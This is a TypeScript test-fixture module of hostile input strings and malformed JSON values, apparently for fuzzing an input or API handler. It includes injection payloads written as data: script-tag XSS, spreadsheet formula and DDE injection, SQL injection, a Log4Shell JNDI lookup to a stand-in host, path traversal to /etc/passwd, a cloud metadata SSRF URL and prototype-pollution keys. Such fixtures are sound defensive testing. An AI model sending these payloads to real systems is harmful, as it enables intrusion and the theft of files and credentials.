/** Written as it stands where JSON would be written; what is no JSON can stand so in the middle of it. */
const RAW = Symbol('raw');
export const raw = (text: string): object => ({ [RAW]: text });

/** Text that somebody hopes will do more than be read. Nobody's id, mark, year or number is among it. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '\u202e\u2066txt\u2069',
  'a\u200b\u200d\ufeffb',
  '\u0000',
  'a\u0007\u001b[31mb\u009b',
  '\ud800',
  'x\udfff\ud800y',
  '\uffff\ufdd0\u{1ffff}',
  '\ufff9a\ufffab\ufffb',
  '\u{e0041}\u{e0042}\u{e007f}',
  '\u00ad\u115f\u3164\uffa0\u180e\u2800',
  'line\r\nbreak\u2028and\u2029more\u0085',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>&lol;',
  ']]><evil/>',
  '=HYPERLINK("http://elsewhere.test","x")',
  '+cmd|/C calc!A0',
  '@SUM(1+1)*cmd',
  `' OR '1'='1`,
  '${jndi:ldap://elsewhere.test/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  '[object Object]',
  'null',
  'NaN',
  '-1',
  '1e9',
  '2026-02-30',
  '9999999-99-99',
  '０１',
  'x'.repeat(20_000),
  '爪'.repeat(5_000),
  'e\u0301'.repeat(500),
  ' '.repeat(3_000) + 'x',
  '(((((((((a+)+)+)+)+)+)+)+)+)+$',
];

/** In place of any value. Made anew for each, since it becomes part of an answer. */
export const OTHER_KINDS: readonly (() => unknown)[] = [
  () => null,
  () => ({}),
  () => [],
  () => true,
  () => false,
  () => 0,
  () => -1.5,
  () => 45_296,
  () => 1e21,
  () => 1e-7,
  () => raw('1e999'),
  () => raw('-1e999'),
  () => raw('123456789012345678901234567890'),
  () => raw('0.1e-400'),
  () => [[[]]],
  () => [null],
  () => ({ $gt: '' }),
  () => ({ length: 1e9, 0: 'a' }),
  () => ({ toString: null, valueOf: 1 }),
  () => raw(`${'['.repeat(3_000)}${']'.repeat(3_000)}`),
  () => raw(`${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`),
  () => raw('['.repeat(50_000)),
  () => raw('NaN'),
  () => raw('undefined'),
  () => raw("'single'"),
  () => raw('1,'),
  () => raw('/* */ 1'),
  () => raw('"\\ud800"'),
  () => raw('"\\u0000"'),
  () => raw('"\t"'),
  () => raw('0x10'),
];

/** As JSON, with the raw places as they stand; lone surrogates are escaped. */
export function writeJson(value: unknown): string {
  if (typeof value !== 'object' || value === null) return JSON.stringify(value) ?? 'null';
  if (RAW in value) return String(value[RAW]);
  if (Array.isArray(value)) return `[${value.map(writeJson).join(',')}]`;
  return `{${Object.entries(value)
    .map(([key, one]) => `${JSON.stringify(key)}:${writeJson(one)}`)
    .join(',')}}`;
}
